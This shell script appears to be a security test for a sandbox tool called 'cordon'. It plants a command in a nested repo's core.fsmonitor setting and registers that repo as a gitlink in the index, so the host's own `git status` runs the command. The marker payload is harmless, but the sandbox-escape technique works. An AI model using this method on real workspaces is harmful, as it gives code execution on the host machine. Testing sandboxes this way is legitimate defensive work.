#!/bin/sh
# F1b: a nested repo registered as a gitlink in the (writable) .git/index
# makes the host's `git status` at the top run that repo's core.fsmonitor.
C=${CORDON:-/work/wt/attack/build/cordon}
T=$(mktemp -d /tmp/atk-gitlink.XXXXXX); chmod 755 "$T"
cd "$T" && git init -q ws && cd ws && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m init
cat > .p.sh <<P
set -e
cd $T/ws
mkdir sub && cd sub && git init -q . && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m s
git config core.fsmonitor "touch $T/PWNED_SUB; false"
H=\$(git rev-parse HEAD); cd ..
git update-index --add --cacheinfo 160000,\$H,sub
P
"$C" run --rw "$T/ws" --cwd "$T/ws" -- sh "$T/ws/.p.sh"; rm .p.sh
git status >/dev/null 2>&1
ls "$T/PWNED_SUB" && echo "VULNERABLE: host git status ran the nested repo's fsmonitor"
